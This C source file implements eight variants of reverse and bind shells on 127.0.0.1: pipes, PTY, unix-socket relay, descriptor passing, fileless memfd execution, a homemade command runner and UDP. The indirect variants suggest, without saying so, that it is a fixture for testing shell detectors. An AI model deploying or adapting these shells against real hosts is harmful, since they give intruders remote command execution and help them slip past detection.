// Shells that have their input and output from a network peer by way of something else.
//
// shell_relay MODE PORT [PROGRAM]: reaches 127.0.0.1:PORT; see the table in main.
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <err.h>
#include <fcntl.h>
#include <poll.h>
#include <pty.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/sendfile.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

static const char *program = "/bin/sh";
static struct sockaddr_in peer;

static int checked(int result, const char *what) {
	if (result < 0) err(1, "%s", what);
	return result;
}

static int reach(int kind, int connects) {
	int number = checked(socket(AF_INET, kind, 0), "socket");
	if (connects) checked(connect(number, (struct sockaddr *)&peer, sizeof peer), "connect");
	return number;
}

static void become_shell(int in, int out) {
	// Where one of them is a standard stream already, it must not be overwritten before it is used.
	in = checked(fcntl(in, F_DUPFD, 10), "fcntl"), out = checked(fcntl(out, F_DUPFD, 10), "fcntl");
	dup2(in, 0), dup2(out, 1), dup2(out, 2);
	closefrom(3);
	execl(program, program, NULL);
	err(1, "%s", program);
}

static ssize_t take(int from, char *bytes, size_t most, int is_datagram) {
	socklen_t length = sizeof peer;
	return is_datagram ? recvfrom(from, bytes, most, 0, (struct sockaddr *)&peer, &length)
	                   : read(from, bytes, most);
}

// Copies both ways until one side ends. `out` is written to, `in` is read from.
static void relay(int net, int out, int in, int unconnected) {
	struct pollfd both[2] = {{net, POLLIN, 0}, {in, POLLIN, 0}};
	char bytes[4096];
	for (;;) {
		checked(poll(both, 2, -1), "poll");
		if (both[0].revents) {
			ssize_t count = take(net, bytes, sizeof bytes, unconnected);
			if (count <= 0 || write(out, bytes, count) < 0) return;
		}
		if (both[1].revents) {
			ssize_t count = read(in, bytes, sizeof bytes);
			if (count <= 0) return;
			if (unconnected) sendto(net, bytes, count, 0, (struct sockaddr *)&peer, sizeof peer);
			else if (write(net, bytes, count) < 0) return;
		}
	}
}

static void with_pipes(int net, int unconnected) {
	int down[2], up[2];
	checked(pipe(down), "pipe"), checked(pipe(up), "pipe");
	if (checked(fork(), "fork") == 0) become_shell(down[0], up[1]);
	close(down[0]), close(up[1]);
	relay(net, down[1], up[0], unconnected);
}

static void with_terminal(int net) {
	int master;
	if (checked(forkpty(&master, NULL, NULL, NULL), "forkpty") == 0) {
		closefrom(3);
		execl(program, program, NULL);
		err(1, "%s", program);
	}
	relay(net, master, master, 0);
}

// A shell on a unix socket that it connected itself, and a relay that accepted it.
static void with_unix(void) {
	struct sockaddr_un name = {.sun_family = AF_UNIX};
	snprintf(name.sun_path + 1, sizeof name.sun_path - 1, "shell_relay.%d", getpid());
	int listener = checked(socket(AF_UNIX, SOCK_STREAM, 0), "socket");
	checked(bind(listener, (struct sockaddr *)&name, sizeof name), "bind");
	checked(listen(listener, 1), "listen");
	if (checked(fork(), "fork") == 0) {
		int end = checked(socket(AF_UNIX, SOCK_STREAM, 0), "socket");
		checked(connect(end, (struct sockaddr *)&name, sizeof name), "connect");
		become_shell(end, end);
	}
	int end = checked(accept(listener, NULL, NULL), "accept");
	close(listener);
	relay(reach(SOCK_STREAM, 1), end, end, 0);
}

static void pass(int through, int what) {
	char byte = 'x', room[CMSG_SPACE(sizeof what)] = {0};
	struct iovec data = {&byte, 1};
	struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = room,
	                         .msg_controllen = sizeof room};
	struct cmsghdr *control = CMSG_FIRSTHDR(&message);
	control->cmsg_level = SOL_SOCKET, control->cmsg_type = SCM_RIGHTS;
	control->cmsg_len = CMSG_LEN(sizeof what);
	memcpy(CMSG_DATA(control), &what, sizeof what);
	checked(sendmsg(through, &message, 0), "sendmsg");
}

static int receive(int through) {
	int what;
	char byte, room[CMSG_SPACE(sizeof what)];
	struct iovec data = {&byte, 1};
	struct msghdr message = {.msg_iov = &data, .msg_iovlen = 1, .msg_control = room,
	                         .msg_controllen = sizeof room};
	checked(recvmsg(through, &message, 0), "recvmsg");
	memcpy(&what, CMSG_DATA(CMSG_FIRSTHDR(&message)), sizeof what);
	return what;
}

// One process connects, another one becomes the shell.
static void by_rights(void) {
	int pair[2];
	checked(socketpair(AF_UNIX, SOCK_STREAM, 0, pair), "socketpair");
	if (checked(fork(), "fork") == 0) {
		int net = receive(pair[1]);
		become_shell(net, net);
	}
	int net = reach(SOCK_STREAM, 1);
	pass(pair[0], net);
	close(net);
}

static void from_memory(int net) {
	int file = open(program, O_RDONLY), memory = memfd_create("x", MFD_CLOEXEC);
	while (sendfile(memory, file, NULL, 1 << 20) > 0) continue;
	dup2(net, 0), dup2(net, 1), dup2(net, 2);
	char *arguments[] = {"x", NULL};
	fexecve(memory, arguments, environ);
	err(1, "fexecve");
}

// No shell at all: a program that runs what it is told word by word.
static void as_own_shell(int net) {
	FILE *commands = fdopen(dup(net), "r");
	char line[256], *words[16];
	while (fgets(line, sizeof line, commands)) {
		int count = 0;
		for (char *word = strtok(line, " \n"); word && count < 15; word = strtok(NULL, " \n"))
			words[count++] = word;
		words[count] = NULL;
		if (count == 0) continue;
		if (strcmp(words[0], "exit") == 0) return;
		if (strcmp(words[0], "pid") == 0) {
			dprintf(net, "pid=%d.", getpid());
			continue;
		}
		if (checked(fork(), "fork") == 0) {
			dup2(net, 0), dup2(net, 1), dup2(net, 2);
			execvp(words[0], words);
			_exit(127);
		}
		wait(NULL);
	}
}

static int wait_for_peer(void) {
	int listener = reach(SOCK_STREAM, 0), one = 1;
	setsockopt(listener, SOL_SOCKET, SO_REUSEADDR, &one, sizeof one);
	checked(bind(listener, (struct sockaddr *)&peer, sizeof peer), "bind");
	checked(listen(listener, 1), "listen");
	int net = checked(accept(listener, NULL, NULL), "accept");
	close(listener);
	return net;
}

int main(int count, char **arguments) {
	if (count < 3) errx(2, "usage: shell_relay MODE PORT [PROGRAM]");
	const char *mode = arguments[1];
	if (count > 3) program = arguments[3];
	peer = (struct sockaddr_in){.sin_family = AF_INET, .sin_port = htons(atoi(arguments[2])),
	                            .sin_addr = {htonl(INADDR_LOOPBACK)}};
	if (!strcmp(mode, "pipes")) with_pipes(reach(SOCK_STREAM, 1), 0);
	else if (!strcmp(mode, "bind")) with_pipes(wait_for_peer(), 0);
	else if (!strcmp(mode, "pty")) with_terminal(reach(SOCK_STREAM, 1));
	else if (!strcmp(mode, "unix")) with_unix();
	else if (!strcmp(mode, "rights")) by_rights();
	else if (!strcmp(mode, "memory")) from_memory(reach(SOCK_STREAM, 1));
	else if (!strcmp(mode, "own")) as_own_shell(reach(SOCK_STREAM, 1));
	else if (!strcmp(mode, "udp") || !strcmp(mode, "datagrams")) {
		int connects = !strcmp(mode, "udp"), net = reach(SOCK_DGRAM, connects);
		sendto(net, "\n", 1, 0, connects ? NULL : (struct sockaddr *)&peer, connects ? 0 : sizeof peer);
		with_pipes(net, !connects);
	} else errx(2, "no such mode");
	return 0;
}
